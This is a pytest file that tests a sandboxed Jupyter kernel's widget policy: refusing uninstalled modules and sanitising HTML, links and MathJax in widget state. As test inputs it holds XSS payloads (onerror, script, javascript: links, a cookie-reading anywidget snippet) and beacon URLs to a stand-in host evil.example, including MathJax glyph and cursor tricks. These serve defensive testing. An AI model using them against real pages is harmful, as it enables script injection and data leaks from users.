"""The widget policy (outputs/widgets.py) on its own: every refusal, every cleaning."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from sandbox_kernel.outputs.widgets import (
    WIDGET_VIEW_MIME,
    WidgetComms,
    WidgetRefused,
    installed_widget_modules,
)

CONTROLS = "@jupyter-widgets/controls"


def state(model: str = "IntSliderModel", **extra: Any) -> dict[str, Any]:
    return {
        "_model_module": CONTROLS,
        "_model_module_version": "2.0.0",
        "_model_name": model,
        "_view_module": CONTROLS,
        "_view_module_version": "2.0.0",
        "_view_name": model.replace("Model", "View"),
        **extra,
    }


def open_msg(comm_id: str, st: dict[str, Any], target: str = "jupyter.widget", **data: Any) -> dict[str, Any]:
    return {
        "msg_type": "comm_open",
        "content": {"comm_id": comm_id, "target_name": target, "data": {"state": st, "buffer_paths": [], **data}},
        "metadata": {"version": "2.1.0"},
    }


def update_msg(comm_id: str, st: dict[str, Any], paths: list[Any] | None = None) -> dict[str, Any]:
    data = {"method": "update", "state": st, "buffer_paths": paths or []}
    return {"msg_type": "comm_msg", "content": {"comm_id": comm_id, "data": data}, "metadata": {}}


def test_standard_widget_opens_and_updates() -> None:
    w = WidgetComms()
    out = w.from_sandbox(open_msg("a" * 32, state(value=3)), [], private=False)
    assert out.msg_type == "comm_open" and out.content["data"]["state"]["value"] == 3
    assert out.metadata == {"version": "2.1.0"}
    assert w.owns("a" * 32) and w.comms("jupyter.widget") == {"a" * 32: {"target_name": "jupyter.widget"}}
    assert w.from_sandbox(update_msg("a" * 32, {"value": 4}), [], private=False).content["data"]["state"] == {
        "value": 4
    }


@pytest.mark.parametrize("target", ["sandbox_kernel.status", "jupyter.widget.control", "matplotlib", ""])
def test_a_sandbox_opens_only_widget_comms(target: str) -> None:
    with pytest.raises(WidgetRefused, match="only for widgets"):
        WidgetComms().from_sandbox(open_msg("b1", state(), target=target), [], private=False)


@pytest.mark.parametrize("key", ["_model_module", "_view_module"])
@pytest.mark.parametrize("module", ["https://cdn.example/w.js", "evil-widgets", "@jupyter-widgets/controls/../x"])
def test_modules_not_installed_are_refused(key: str, module: str) -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match="not installed in this Jupyter server"):
        w.from_sandbox(open_msg("c1", state(**{key: module})), [], private=False)
    assert not w.owns("c1")
    w.from_sandbox(open_msg("c2", state()), [], private=False)
    with pytest.raises(WidgetRefused, match="not installed"):  # nor switched to later
        w.from_sandbox(update_msg("c2", {key: module}), [], private=False)


def test_installed_modules_are_allowed(tmp_path: Path) -> None:
    (tmp_path / "jupyter-matplotlib").mkdir()
    (tmp_path / "jupyter-matplotlib" / "package.json").write_text(json.dumps({"name": "jupyter-matplotlib"}))
    (tmp_path / "@scope" / "thing").mkdir(parents=True)
    (tmp_path / "@scope" / "thing" / "package.json").write_text(json.dumps({"name": "@scope/thing"}))
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / "package.json").write_text("{not json")
    (tmp_path / "file.txt").write_text("x")
    found = installed_widget_modules([tmp_path, tmp_path / "missing"])
    assert found == {"jupyter-matplotlib", "@scope/thing"}
    w = WidgetComms(modules=found)
    w.from_sandbox(
        open_msg("d1", state(_model_module="jupyter-matplotlib", _view_module="jupyter-matplotlib")), [], private=False
    )


def test_html_is_cleaned_where_the_frontend_renders_html() -> None:
    w = WidgetComms()
    evil = '<b>ok</b><img src=x onerror="alert(1)"><script>alert(2)</script>'
    out = w.from_sandbox(open_msg("e1", state("HTMLModel", value=evil)), [], private=False)
    value = out.content["data"]["state"]["value"]
    assert "<b>ok</b>" in value and "onerror" not in value and "script" not in value
    later = w.from_sandbox(update_msg("e1", {"value": '<a href="javascript:alert(1)">x</a>'}), [], private=False)
    assert "javascript" not in later.content["data"]["state"]["value"]
    # a Text widget's value is text, not HTML: left exactly as typed
    w.from_sandbox(open_msg("e2", state("TextModel", value="a < b & c")), [], private=False)
    assert w.from_sandbox(update_msg("e2", {"value": "<i>x</i>"}), [], private=False).content["data"]["state"] == {
        "value": "<i>x</i>"
    }


def test_description_cleaned_when_html_is_switched_on_later() -> None:
    w = WidgetComms()
    raw = '<img src=x onerror="alert(1)">label'
    first = w.from_sandbox(open_msg("f1", state("CheckboxModel", description=raw)), [], private=False)
    assert first.content["data"]["state"]["description"] == raw  # text: shown as typed
    switch = w.from_sandbox(update_msg("f1", {"description_allow_html": True}), [], private=False)
    assert "onerror" not in switch.content["data"]["state"]["description"]
    assert "label" in switch.content["data"]["state"]["description"]
    again = w.from_sandbox(update_msg("f1", {"description": "<svg onload=alert(1)>"}), [], private=False)
    assert "onload" not in again.content["data"]["state"]["description"]


def test_a_model_cannot_change_its_class() -> None:
    w = WidgetComms()
    w.from_sandbox(open_msg("g1", state("LabelModel")), [], private=False)
    with pytest.raises(WidgetRefused, match="cannot change its model"):
        w.from_sandbox(update_msg("g1", {"_model_name": "HTMLModel"}), [], private=False)


def test_messages_only_on_known_comms_and_close_forgets() -> None:
    w = WidgetComms()
    with pytest.raises(WidgetRefused, match="not a widget of this session"):
        w.from_sandbox(update_msg("h1", {"value": 1}), [], private=False)
    w.from_sandbox(open_msg("h1", state()), [], private=False)
    with pytest.raises(WidgetRefused, match="already open"):
        w.from_sandbox(open_msg("h1", state()), [], private=False)
    close = {"msg_type": "comm_close", "content": {"comm_id": "h1", "data": {}}, "metadata": {}}
    assert w.from_sandbox(close, [], private=False).msg_type == "comm_close"
    assert not w.owns("h1")


def test_the_hosts_own_comm_ids_cannot_be_taken() -> None:
    w = WidgetComms()
    w.host_comm = lambda comm_id: comm_id == "status-1"
    with pytest.raises(WidgetRefused, match="already open"):
        w.from_sandbox(open_msg("status-1", state()), [], private=False)
    # nor by a frontend's widget comm of that id, which the sandbox would then answer on
    with pytest.raises(WidgetRefused, match="already open"):
        w.for_sandbox("comm_open", {"comm_id": "status-1", "target_name": "jupyter.widget", "data": {}})


@pytest.mark.parametrize("comm_id", [None, 3, "", "x" * 65, "../x", "a b", "id\n"])
def test_bad_comm_ids_are_named(comm_id: Any) -> None:
    with pytest.raises(WidgetRefused, match="comm_id must be"):
        WidgetComms().from_sandbox(open_msg(comm_id, state()), [], private=False)


@pytest.mark.parametrize(
    ("msg", "match"),
    [
        ({"msg_type": "execute_request", "content": {}, "metadata": {}}, "unknown comm message kind"),
        ({"msg_type": "comm_open", "content": [], "metadata": {}}, "must be objects"),
        (
            {
                "msg_type": "comm_open",
                "content": {"comm_id": "z", "data": 3, "target_name": "jupyter.widget"},
                "metadata": {},
            },
            "data must be an object",
        ),
        (open_msg("z", "not a dict"), "state must be an object"),  # type: ignore[arg-type]
        (open_msg("z", state(), buffer_paths=[["value"]]), "one list of keys per buffer"),
    ],
)
def test_malformed_messages_are_named(msg: dict[str, Any], match: str) -> None:
    with pytest.raises(WidgetRefused, match=match):
        WidgetComms().from_sandbox(msg, [], private=False)


def test_size_limit_counts_buffers() -> None:
    w = WidgetComms(max_message_bytes=10_000)
    with pytest.raises(WidgetRefused, match="over the limit of 10000"):
        w.from_sandbox(open_msg("i1", state(value="x" * 20_000)), [], private=False)
    with pytest.raises(WidgetRefused, match="over the limit"):
        w.from_sandbox(open_msg("i2", state("ImageModel"), buffer_paths=[["value"]]), [b"\0" * 20_000], private=False)
    out = w.from_sandbox(open_msg("i3", state("ImageModel"), buffer_paths=[["value"]]), [b"png"], private=False)
    assert out.buffers == [b"png"]


def test_rate_limit_is_a_token_bucket() -> None:
    w = WidgetComms(rate=50)
    w.from_sandbox(open_msg("j1", state()), [], private=False)
    sent = refused = 0
    for i in range(200):
        try:
            w.from_sandbox(update_msg("j1", {"value": i}), [], private=False)
            sent += 1
        except WidgetRefused as exc:
            assert "50 widget messages a second" in str(exc)
            refused += 1
    assert 40 <= sent <= 60 and refused == 200 - sent


def test_update_states_drops_refused_models_with_their_buffers() -> None:
    w = WidgetComms()
    w.from_frontend("comm_open", {"comm_id": "ctl", "target_name": "jupyter.widget.control", "data": {}})
    w.from_sandbox(open_msg("k1", state("ImageModel")), [], private=False)
    w.from_sandbox(open_msg("k2", state("ImageModel")), [], private=False)
    states = {
        "k1": {"model_name": "ImageModel", "model_module": CONTROLS, "model_module_version": "2.0.0", "state": {}},
        "k2": {"model_name": "ImageModel", "model_module": "evil", "model_module_version": "1", "state": {}},
        "zz": {"model_name": "HTMLModel", "model_module": CONTROLS, "model_module_version": "2.0.0", "state": {}},
    }
    data = {
        "method": "update_states",
        "states": states,
        "buffer_paths": [["k2", "state", "value"], ["k1", "state", "value"]],
    }
    msg = {"msg_type": "comm_msg", "content": {"comm_id": "ctl", "data": data}, "metadata": {}}
    out = w.from_sandbox(msg, [b"two", b"one"], private=False)
    assert set(out.content["data"]["states"]) == {"k1"}
    assert out.content["data"]["buffer_paths"] == [["k1", "state", "value"]] and out.buffers == [b"one"]
    assert any("not installed" in n for n in out.notes) and any("zz" in n for n in out.notes)
    with pytest.raises(WidgetRefused, match="only on the widget control comm"):
        w.from_sandbox({**msg, "content": {"comm_id": "k1", "data": data}}, [b"two", b"one"], private=False)


def test_output_widget_outputs_are_output_bundles() -> None:
    w = WidgetComms()
    outputs = [
        {
            "output_type": "display_data",
            "data": {"text/html": "<img src=x onerror=alert(1)>", "application/javascript": "x"},
            "metadata": {},
        },
        {"output_type": "stream", "name": "stdout", "text": "hi\n"},
        {"output_type": "stream", "name": "evil", "text": "x"},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["t"]},
        "junk",
    ]
    out = w.from_sandbox(
        open_msg(
            "l1",
            state(
                "OutputModel",
                _model_module="@jupyter-widgets/output",
                _view_module="@jupyter-widgets/output",
                outputs=outputs,
            ),
        ),
        [],
        private=False,
    )
    clean = out.content["data"]["state"]["outputs"]
    assert [o["output_type"] for o in clean] == ["display_data", "stream", "error"]
    assert clean[0]["data"].keys() == {"text/html"} and "onerror" not in clean[0]["data"]["text/html"]


def test_private_sessions_get_no_followable_links() -> None:
    w = WidgetComms()
    st = state(
        "HTMLModel", value='<a href="https://evil.example/?d=1">x</a>', description="see https://evil.example/?d=2"
    )
    out = w.from_sandbox(open_msg("m1", st), [], private=True)
    text = json.dumps(out.content)
    assert "evil.example" in text and "https://evil" not in text and "href" not in text


def test_views_must_name_a_widget_of_the_session() -> None:
    w = WidgetComms()
    w.from_sandbox(open_msg("n1", state()), [], private=False)
    assert w.view({"model_id": "n1", "version_major": 2, "version_minor": 0, "extra": "<script>"}) == {
        "model_id": "n1",
        "version_major": 2,
        "version_minor": 0,
    }
    assert w.view({"model_id": "other"}) is None
    assert w.view({"model_id": "n1", "version_major": "2"}) is None
    assert w.view("n1") is None
    assert WIDGET_VIEW_MIME == "application/vnd.jupyter.widget-view+json"


def test_frontend_side_routes_only_widget_comms_to_the_sandbox() -> None:
    w = WidgetComms()
    control = {"comm_id": "ctl", "target_name": "jupyter.widget.control", "data": {}}
    assert not w.for_sandbox("comm_open", {"comm_id": "s1", "target_name": "sandbox_kernel.status", "data": {}})
    assert w.for_sandbox("comm_open", control)
    assert not w.owns("ctl")  # recorded by the session once a sandbox is there
    w.from_frontend("comm_open", control)
    assert w.for_sandbox("comm_msg", {"comm_id": "ctl", "data": {"method": "request_states"}})
    assert not w.for_sandbox("comm_msg", {"comm_id": "s1", "data": {}})  # the host's
    assert not w.for_sandbox("comm_msg", "junk")
    assert not w.for_sandbox("execute_request", {"comm_id": "ctl"})
    with pytest.raises(WidgetRefused, match="already open"):
        w.for_sandbox("comm_open", control)
    with pytest.raises(WidgetRefused, match="comm_id must be"):
        w.for_sandbox("comm_open", {"comm_id": "../x", "target_name": "jupyter.widget"})
    small = WidgetComms(max_message_bytes=100)
    small.from_frontend("comm_open", {"comm_id": "c", "target_name": "jupyter.widget.control"})
    with pytest.raises(WidgetRefused, match="over the limit"):
        small.for_sandbox("comm_msg", {"comm_id": "c", "data": {}}, [b"x" * 200])
    assert w.for_sandbox("comm_close", {"comm_id": "ctl"})
    w.from_frontend("comm_close", {"comm_id": "ctl"})
    assert not w.owns("ctl")


def test_widget_packages_that_run_code_from_the_state_need_the_users_opt_in(tmp_path: Path) -> None:
    """anywidget (and ipyreact, ipyvue's templates) run the JavaScript a
    model's state carries: installed in the server, they would let any cell
    run script in the page. They pass only when listed in widget_modules."""
    for name in ("anywidget", "jupyter-matplotlib"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "package.json").write_text(json.dumps({"name": name}))
    found = installed_widget_modules([tmp_path])
    assert found == {"jupyter-matplotlib"}
    esm = state("AnyModel", _model_module="anywidget", _view_module="anywidget", _esm="alert(document.cookie)")
    with pytest.raises(WidgetRefused, match="not installed"):
        WidgetComms(modules=found).from_sandbox(open_msg("aw1", esm), [], private=False)
    opted_in = WidgetComms(modules=found | {"anywidget"})
    assert opted_in.from_sandbox(open_msg("aw2", esm), [], private=False).content["data"]["state"]["_esm"]


@pytest.mark.parametrize(
    "url", ["//evil.example/t/1.png", " //evil.example/x", "\\\\evil.example/x", "/\\evil.example/x", "\t//evil/x"]
)
def test_private_widget_state_holds_no_scheme_less_url_to_another_host(url: str) -> None:
    """A third-party widget (a map's tile layer) fetches what its state names;
    once private, ``https://`` was already broken but ``//host`` (and the
    backslash spellings a browser's URL parser accepts) went through."""
    w = WidgetComms(modules={"jupyter-leaflet"})
    st = state("LeafletTileLayerModel", _model_module="jupyter-leaflet", _view_module="jupyter-leaflet", url=url)
    out = w.from_sandbox(open_msg("tl1", st), [], private=True).content["data"]["state"]["url"]
    assert out.lstrip(" \t").startswith("[/]/"), out
    public = w.from_sandbox(open_msg("tl2", st), [], private=False).content["data"]["state"]["url"]
    assert public == url
    kept = w.from_sandbox(open_msg("tl3", {**st, "url": "/files/tiles/1.png"}), [], private=True)
    assert kept.content["data"]["state"]["url"] == "/files/tiles/1.png"


def test_private_widget_text_holds_no_math_that_fetches() -> None:
    """ipywidgets typesets a Label's value and every description with MathJax,
    where ``\\mmlToken{mglyph}[src=...]`` is an image loaded from any host
    (tests/browser/test_private_outputs_in_a_plain_lab.py attacks it in a Lab)."""
    glyph = '$\\mmlToken{mglyph}[src="//evil.example/?d=1"]{}$'
    st = state("LabelModel", value="total " + glyph, description="rows " + glyph)
    w = WidgetComms()
    private = w.from_sandbox(open_msg("mt1", st), [], private=True).content["data"]["state"]
    assert "\\mmlToken" not in json.dumps(private)
    assert private["value"].startswith("total $\\mathrm{mmlToken}")
    assert private["description"].startswith("rows $\\mathrm{mmlToken}")
    later = w.from_sandbox(update_msg("mt1", {"value": "$x + " + glyph}), [], private=True)
    assert "\\mmlToken" not in later.content["data"]["state"]["value"]
    # public too: a style attribute's cursor image would wait for a private output's CSS
    public = w.from_sandbox(open_msg("mt2", st), [], private=False).content["data"]["state"]
    assert public["value"].startswith("total $\\mathrm{mmlToken}")
    # plain math stays as it is once private
    plain = w.from_sandbox(open_msg("mt3", state("LabelModel", value="$x^2$")), [], private=True)
    assert plain.content["data"]["state"]["value"] == "$x^2$"


def test_public_widget_text_holds_no_math_style_that_could_wait_to_fetch() -> None:
    """A public Label's ``\\style{cursor:url(...)}``, in a view hidden by its
    layout, would fetch once a later private output's CSS showed it (helper
    67 measured it for outputs); kept as written without a fetch."""
    cursor = "$\\style{cursor:url(//evil.example/bit3),auto}{x}$"
    st = state("LabelModel", value="total " + cursor, description="rows " + cursor)
    w = WidgetComms()
    public = w.from_sandbox(open_msg("ms1", st), [], private=False).content["data"]["state"]
    assert "\\style" not in json.dumps(public) and public["value"].startswith("total $\\mathrm{style}")
    later = w.from_sandbox(update_msg("ms1", {"value": "$" + cursor}), [], private=False)
    assert "\\style" not in later.content["data"]["state"]["value"]
    coloured = w.from_sandbox(open_msg("ms2", state("LabelModel", value="$\\style{color:red}{x}$")), [], private=False)
    assert coloured.content["data"]["state"]["value"] == "$\\style{color:red}{x}$"
